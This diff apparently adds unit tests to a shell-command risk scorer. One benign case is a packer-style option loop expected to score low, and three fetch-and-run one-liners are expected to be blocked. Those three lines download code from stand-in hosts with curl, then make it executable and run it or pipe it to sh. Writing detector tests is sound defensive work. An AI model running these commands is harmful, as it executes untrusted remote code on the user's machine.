@@ -171,3 +171,31 @@ describe("code that runs gh's token printer and calls only that forge logs in th
     expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
   });
 });
+
+describe("two names assigned the same positional parameter are two values, not one file", () => {
+  const makeselfLike = [
+    "#!/bin/sh",
+    "# Makeself-like packer, see https://packer.example/docs",
+    "while [ $# -gt 0 ]; do",
+    '  case "$1" in',
+    '    --header) HEADER="$2"; shift 2 ;;',
+    '    --name) archname="$2"; shift 2 ;;',
+    '    --version) echo "packer 2.4.0.1"; exit 0 ;;',
+    "    *) break ;;",
+    "  esac",
+    "done",
+    '. "$HEADER"',
+    'cat "$tmpfile" >> "$archname"',
+    'chmod +x "$archname"',
+  ].join("\n");
+  test("an option loop's header sourced and its archive made executable", () => {
+    expect(score(makeselfLike)).toBeLessThan(0.5);
+  });
+  test.each([
+    'curl -so /tmp/p http://198.51.100.2/p; set -- x /tmp/p; a="$2"; chmod +x "$a"; "$a"',
+    'dl() { out=$2; curl -so "$out" "$1"; chmod +x "$out"; "$out"; }; dl https://e.example/x /tmp/x',
+    'f() { u=$1; curl -s "$u" | sh; }; f http://e.example/x',
+  ])("blocks %s", (cmd) => {
+    expect(score(cmd)).toBeGreaterThanOrEqual(0.8);
+  });
+});
